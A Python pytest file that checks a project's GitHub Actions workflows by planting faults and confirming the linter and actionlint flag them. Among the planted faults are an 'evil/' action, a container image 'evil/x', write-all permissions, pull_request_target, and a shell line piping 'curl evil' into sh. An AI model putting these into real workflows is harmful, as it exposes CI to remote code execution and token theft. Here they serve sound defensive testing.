"""The files that start CI, held to the house and to actionlint; and planted faults that each of the two must see."""

from __future__ import annotations

import shutil
import sys
from dataclasses import replace
from importlib.util import find_spec
from pathlib import Path

import pytest

if find_spec("yaml") is None:
    pytest.skip("not-run: there is no yaml here, which reads workflows", allow_module_level=True)

sys.path.insert(0, str(Path(__file__).parents[2] / "ci"))
from workflows import FOLDER, ROOT, Project, find_faults, read_project, run_actionlint


@pytest.fixture(scope="module")
def whole() -> Project:
    return read_project(ROOT)


@pytest.fixture
def project(whole: Project, tmp_path: Path) -> Project:
    """The files in a copy that a test may change."""
    for name in ("ci", FOLDER):
        shutil.copytree(ROOT / name, tmp_path / name, ignore=shutil.ignore_patterns("__pycache__"))
    (tmp_path / ".git").mkdir()  # by which actionlint knows where `./.github` of a local call lies
    return replace(whole, root=tmp_path)


def test_the_files_as_they_are_hold(project: Project) -> None:
    assert list(find_faults(project)) == []


def test_actionlint_has_nothing_to_say(project: Project) -> None:
    code, said = run_actionlint(project.root)
    if code < 0:
        pytest.skip(said)
    assert (code, said) == (0, "")


PIN = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"
HOUSE = {
    "two commands": ("pins.yml", "run: python3 ci/open", "run: true && python3 ci/open", "more than"),
    "a script of lines": ("jobs.yml", "- run: python3 ci/run_job.py", "- run: |\n          python3 ci/run_job.py\n"
                          "          rm x", "more than one call"),
    "an expression in a line": ("te_watch.yml", "-- te_watch\n", '-- "${{ github.head_ref }}"\n', "more than one call"),
    "no such script": ("pins.yml", "ci/open_change.py", "ci/open_changes.py", "there is no such script"),
    "no such session": ("te_watch.yml", "./nox -s te_watch", "./nox -s te_watches", "no nox session te_watches"),
    "no such pipeline": ("images.yml", "pipeline: images", "pipeline: image", "there is no pipeline image"),
    "nobody runs it": ("release.yml", "pipeline: release", "pipeline: images", "no workflow runs the pipeline release"),
    "a tag alone": ("pins.yml", PIN, "actions/checkout@v4", "is not pinned by a commit"),
    "another commit": ("pins.yml", PIN, PIN.replace("11bd", "12bd"), "is no row of [[action]]"),
    "an action of nobody": ("pins.yml", PIN, PIN.replace("actions/", "evil/"), "is no row of [[action]]"),
    "all rights": ("pull_request.yml", "permissions:\n  contents: read", "permissions: write-all", "is enough"),
    "no rights said": ("release.yml", "permissions:\n  contents: read\n", "", "contents: read is enough"),
    "writes and runs nox": ("te_watch.yml", "timeout-minutes: 60\n", "timeout-minutes: 60\n    permissions:\n"
                            "      issues: write\n", "runs what reads packages of others"),
    "strangers": ("pull_request.yml", "  pull_request:\n", "  pull_request_target:\n", "strangers get at rights"),
    "a secret": ("jobs.yml", "${{ toJSON(matrix.job) }}", "${{ secrets.KEY }}", "strangers get at rights"),
    "no time to keep what was found": ("te_watch.yml", "timeout-minutes: 60", "timeout-minutes: 50",
                                       "the pipeline te_watch that it runs after 50"),
    "no end": ("pins.yml", "    timeout-minutes: 10\n", "", "has no timeout-minutes"),
    "side by side": ("te_watch.yml", "concurrency:\n  group: te-watch\n", "x:\n", "side by side"),
    "a token left": ("jobs.yml", "persist-credentials: false", "persist-credentials: true", "leaves its token"),
    "another hour": ("te_watch.yml", "17 3 * * *", "18 3 * * *", "runs at ['18 3 * * *']"),
    "another machine": ("pins.yml", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", "always there"),
    "a blank before the colon": ("pins.yml", f"uses: {PIN}", "uses : actions/checkout@v4", "is not pinned by a commit"),
    "a quoted key": ("pins.yml", f"uses: {PIN}", '"uses": actions/checkout@v4', "is not pinned by a commit"),
    "another tag": ("pins.yml", PIN, PIN.replace("v4.2.2", "v4.2.1"), "does not say that it is v4.2.2"),
    "an image of nobody": ("pins.yml", "runs-on: ubuntu-24.04", "container: evil/x\n    runs-on: ubuntu-24.04",
                           "'container'"),
    "a shell that is code": ("pins.yml", "      - run:", "      - shell: sh -c 'curl evil|sh' {0}\n        run:",
                             "'shell'"),
    "a variable that is code": ("pins.yml", "GITHUB_TOKEN:", "BASH_ENV:", "sets BASH_ENV"),
    "all rights of a job": ("pins.yml", "permissions:\n      contents: write\n      pull-requests: write\n",
                            "permissions: write-all\n", "permissions are 'write-all'"),
    "a machine by an expression": ("jobs.yml", "runs-on: ${{ matrix.job.runner }}", "runs-on: ${{ inputs.facts }}",
                                   "always there"),
    "no YAML": ("pins.yml", "jobs:", "jobs: [", "is no YAML"),
}  # fmt: skip


@pytest.mark.parametrize(("file", "old", "new", "said"), HOUSE.values(), ids=HOUSE)
def test_a_planted_fault_is_seen(file: str, old: str, new: str, said: str, project: Project) -> None:
    plant(project.root / FOLDER / file, old, new)
    faults = list(find_faults(project))
    assert any(said in fault for fault in faults), faults


@pytest.mark.parametrize(
    "text", ["", "on: push\n", "- a\n", "jobs: {a: b}\n", "jobs: {a: {steps: [x]}}\n", "jobs: []\n"]
)
def test_what_is_no_workflow_is_a_fault_and_no_crash(text: str, project: Project) -> None:
    (project.root / FOLDER / "odd.yml").write_text(text)
    assert any("odd.yml: " in fault for fault in find_faults(project))


RECIPES = {
    "cron: another hour": ("crontab", "17 3", "18 3", "te_watch runs at '18 3 * * *'"),
    "cron: no such pipeline": ("crontab", "-- pins", "-- pin", "there is no pipeline pin"),
    "cron: one is gone": ("crontab", "41 4", "# 41 4", "pins is not in it"),
    "cron: no such session": ("crontab", "./nox -s pipeline -- te", "./nox -s pipe -- te", "no nox session pipe"),
    "gitlab: no such session": ("gitlab-ci.yml", "./nox -s pipeline", "./nox -s pipe", "no nox session pipe"),
    "gitlab: no such pipeline": ("gitlab-ci.yml", "PIPELINE: release", "PIPELINE: releases", "no pipeline releases"),
}


@pytest.mark.parametrize(("file", "old", "new", "said"), RECIPES.values(), ids=RECIPES)
def test_a_fault_in_another_recipe_is_seen(file: str, old: str, new: str, said: str, project: Project) -> None:
    plant(project.root / "ci" / file, old, new)
    faults = list(find_faults(project))
    assert any(said in fault for fault in faults), faults


LANGUAGE = {
    "an output that nobody gives": ("jobs.yml", "steps.plan.outputs.first", "steps.plans.outputs.first", "plans"),
    "a job that there is not": ("te_watch.yml", "needs: take_in", "needs: take", '"take" which does not exist'),
    "an input that nobody takes": ("images.yml", "pipeline: images", "pipelines: images", '"pipelines" is not defined'),
    "a key that there is not": ("pins.yml", "timeout-minutes: 10", "timeout: 10", '"timeout"'),
}


@pytest.mark.parametrize(("file", "old", "new", "said"), LANGUAGE.values(), ids=LANGUAGE)
def test_a_fault_of_the_language_is_seen_by_actionlint(
    file: str, old: str, new: str, said: str, project: Project
) -> None:
    plant(project.root / FOLDER / file, old, new)
    code, told = run_actionlint(project.root)
    if code < 0:
        pytest.skip(told)
    assert code == 1
    assert said in told


def plant(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))
